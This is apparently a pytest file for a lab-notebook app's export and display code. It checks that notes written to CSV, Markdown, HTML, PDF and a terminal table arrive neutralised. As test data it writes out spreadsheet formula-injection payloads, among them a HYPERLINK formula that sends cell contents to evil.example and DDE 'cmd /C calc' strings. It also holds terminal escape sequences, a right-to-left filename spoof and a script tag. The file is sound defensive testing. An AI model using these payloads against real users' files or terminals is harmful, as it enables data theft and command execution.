"""Output that cannot attack its reader: text from outside (a note, a unit, a label) written to
a spreadsheet, a report or the operator's terminal arrives neutralised (eln.text_safety).

The hostile texts: a spreadsheet formula that opens a link (``=HYPERLINK``) or runs a command
(``+``, ``-``, ``@``, a leading tab or carriage return), an escape sequence that clears the
terminal (ESC [2J, and its one-byte C1 form), a bell, and a right-to-left override that makes
``exe.txt`` read as ``txt.exe``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from textual.widgets import DataTable

from bptwin.database.reading import Reading
from bptwin.database.relational import session_scope
from bptwin.database.timeseries.embedded import EmbeddedStore
from bptwin.eln.direct_notebook import DirectNotebook
from bptwin.eln.models import Note
from bptwin.eln.services import NotebookService
from bptwin.eln.text_safety import markdown_safe, spreadsheet_safe, terminal_safe
from bptwin.screens.notes import NotesScreen
from bptwin.tui.export.csv_export import write_channels_csv, write_table_csv
from bptwin.tui.export.report import KeyValues, Paragraph, Report, Section, Table
from bptwin.tui.export.report_html import render_html
from bptwin.tui.export.report_md import render_markdown
from tests.screens_harness import BATCH, OPERATOR, ScreenHarness, running_notebook

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for the batch report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
TERMINAL_ATTACKS = [
    "Foam at 20 min\x1b[2J\x1b[31mALL CLEAR",
    "C1 form \x9b2J\x9b31m of the same",
    "ring \x07 the bell",
    "report_\u202etxt.exe",
    "isolate \u2066hidden\u2069 order",
]
HOSTILE = FORMULAS + TERMINAL_ATTACKS
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def raw_characters(text: str) -> list[str]:
    return RAW.findall(text)


@pytest.fixture
def notebook(notebook_url: str) -> NotebookService:
    """Batch 7 with every hostile text as a note (written past the form's checks, as an older
    version or an import could have stored it)."""
    service = running_notebook(notebook_url)
    batch = service.batches.get_batch(BATCH)
    assert batch is not None and batch.id is not None
    with session_scope(service.engine, OPERATOR) as session:
        for text in HOSTILE:
            session.add(Note(batch_id=batch.id, author=OPERATOR, text=text))
    return service


def test_notes_exported_to_csv_carry_no_formula_and_no_raw_control_character(
    notebook: NotebookService,
) -> None:
    out = io.StringIO()
    write_table_csv(out, notebook, "notes", batch=BATCH)
    assert raw_characters(out.getvalue().replace("\n", "")) == []
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    cells = [row["text"] for row in rows][-len(HOSTILE) :]
    for original, cell in zip(HOSTILE, cells, strict=True):
        if original in FORMULAS:
            assert cell.startswith("'"), cell  # shown as text, never run
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cells[0] == "'" + FORMULAS[0]
    assert cells[len(FORMULAS)] == "Foam at 20 min\\x1b[2J\\x1b[31mALL CLEAR"
    assert cells[-2] == "report_\\u202etxt.exe"


def test_numbers_in_csv_stay_numbers_and_units_and_names_are_neutralised(tmp_path: Path) -> None:
    store = EmbeddedStore(tmp_path / "ts.sqlite")
    try:
        store.write(
            [
                Reading(1_800_000_000.0, "R1", "temp_jacket", -0.5, "=1+2"),
                Reading(1_800_000_001.0, "R1", "ph", 2.25, "\x1b[2JpH"),
            ]
        )
        out = io.StringIO()
        channels = ["temp_jacket", "ph"]
        write_channels_csv(out, store, "R1", channels, 1_799_999_999.0, 1_800_000_010.0)
    finally:
        store.close()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(row["value"], row["unit"]) for row in rows] == [
        ("-0.5", "'=1+2"),
        ("2.25", "\\x1b[2JpH"),
    ]
    assert float(rows[0]["value"]) == -0.5  # a genuine negative number is not quoted


def test_notes_in_markdown_and_html_reports_arrive_neutralised() -> None:
    section = Section(
        "notes",
        "Notes",
        [
            Paragraph(TERMINAL_ATTACKS[0]),
            KeyValues((("strain", "X-33 \u202eevil"),)),
            Table(("when", "note"), tuple(("09:00", text) for text in HOSTILE)),
        ],
    )
    report = Report("Batch 7 \x1b[2J", "hostile | subtitle <script>", [section], "")
    markdown = render_markdown(report, "images")
    html = render_html(report)
    for rendered in (markdown, html):
        assert raw_characters(rendered.replace("\n", "")) == [], rendered
        assert "\\x1b[2J" in rendered and "\\u202e" in rendered
    assert "<script>" not in markdown and "<script>" not in html
    table_lines = [line for line in markdown.splitlines() if line.startswith("| 09:00")]
    # every row keeps exactly its two cells: a "|" in a note cannot open a third
    assert len(table_lines) == len(HOSTILE)
    assert all(re.sub(r"\\\|", "", line).count("|") == 3 for line in table_lines), table_lines


def test_a_pdf_report_with_hostile_notes_still_renders() -> None:
    pytest.importorskip("reportlab")
    from bptwin.tui.export.report_pdf import escape, render_pdf

    table = Table(("note",), tuple((text,) for text in HOSTILE))
    report = Report("Batch 7", "notes", [Section("notes", "Notes", [table])], "")
    assert render_pdf(report).startswith(b"%PDF")
    assert all(raw_characters(escape(text)) == [] for text in HOSTILE)


async def test_a_hostile_note_on_the_notes_screen_is_shown_not_obeyed(
    notebook: NotebookService, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bptwin.eln.pins.SCRYPT_N", 2**10)
    app = ScreenHarness(lambda: NotesScreen(DirectNotebook(notebook), BATCH, OPERATOR))
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        await app.workers.wait_for_complete()
        await pilot.pause()
        table = app.screen.query_one(DataTable)
        shown = [str(table.get_row_at(row)[2]) for row in range(table.row_count)]
    hostile_rows = shown[-len(HOSTILE) :]
    assert all(raw_characters(text) == [] for text in hostile_rows), hostile_rows
    assert "Foam at 20 min\\x1b[2J\\x1b[31mALL CLEAR" in hostile_rows
    assert "report_\\u202etxt.exe" in hostile_rows


def test_the_neutralising_functions_leave_ordinary_text_alone() -> None:
    ordinary = "Foam at 20 min; 0.2 mL antifoam (Struktol J673), pH 5.0 → 5.1 °C µm"
    assert terminal_safe(ordinary) == ordinary
    assert spreadsheet_safe(ordinary) == ordinary
    assert markdown_safe(ordinary) == ordinary
    assert terminal_safe("two\nlines\ttabbed") == "two\nlines\ttabbed"
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe("-0.5") == "-0.5"
    assert spreadsheet_safe("1e-3") == "1e-3"
